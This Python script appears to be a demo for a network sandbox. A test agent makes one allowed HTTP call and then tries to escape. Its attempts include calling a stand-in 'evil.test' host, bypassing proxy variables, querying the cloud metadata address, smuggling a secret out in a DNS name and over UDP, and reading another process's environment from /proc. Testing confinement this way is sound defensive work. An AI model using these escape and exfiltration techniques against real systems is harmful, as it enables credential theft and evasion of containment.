"""A small agent that does what it is for, and then tries to get round its jail. Run by `make demo`."""

from __future__ import annotations

import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable

GOOD, EVIL = "api.good.test", "evil.test"
SECRET = "c2VjcmV0"  # what a program that got hold of something would carry out in a name


def fetch(url: str, *, use_proxy: bool = True) -> str:
    """An ordinary HTTP client; with `use_proxy=False` one that has never heard of proxy variables."""
    handlers = [] if use_proxy else [urllib.request.ProxyHandler({})]
    try:
        with urllib.request.build_opener(*handlers).open(url, timeout=10) as answer:
            return f"{answer.status} {answer.read().decode().strip()}"
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode().strip()}"
    except OSError as error:
        return str(getattr(error, "reason", error))


def look_up(name: str) -> str:
    try:
        return socket.gethostbyname(name)
    except OSError as error:
        return str(error)


def connect(address: str, port: int) -> str:
    """A plain connection, as any language makes it."""
    try:
        with socket.create_connection((address, port), timeout=5) as connection:
            connection.sendall(b"hello\n")
            return "an answer" if connection.recv(100) else "closed"
    except OSError as error:
        return str(error)


def send_datagram(address: str, port: int) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(SECRET.encode(), (address, port))
        except OSError as error:
            return str(error)
    return "sent"


def read_file(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return f"{len(file.read())} bytes"
    except OSError as error:
        return str(error)


def attempts(port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
    return [
        ("an allowed call, through the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/")),
        ("an allowed call, ignoring the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/", use_proxy=False)),
        ("another host", lambda: fetch(f"http://{EVIL}:{port}/")),
        ("another host, ignoring the proxy variables", lambda: fetch(f"http://{EVIL}:{port}/", use_proxy=False)),
        ("the server's bare address", lambda: connect("203.0.113.9", 443)),
        ("the machine's own loopback", lambda: connect("127.0.0.1", port)),
        ("the cloud's metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", use_proxy=False)),
        ("a secret in a DNS name", lambda: look_up(f"{SECRET}.{EVIL}")),
        ("IPv6", lambda: connect("2001:db8::1", 443)),
        ("UDP, as QUIC uses it", lambda: send_datagram("203.0.113.9", 443)),
        ("the memory of exeat itself", lambda: read_file(f"/proc/{watched}/environ")),
    ]


def main() -> None:
    port, watched = int(sys.argv[1]), sys.argv[2]
    print(f"uid {os.getuid()}, process {os.getpid()} of its own PID namespace")
    for what, attempt in attempts(port, watched):
        print(f"  {what:46} {attempt()[:70]}", flush=True)


if __name__ == "__main__":
    main()
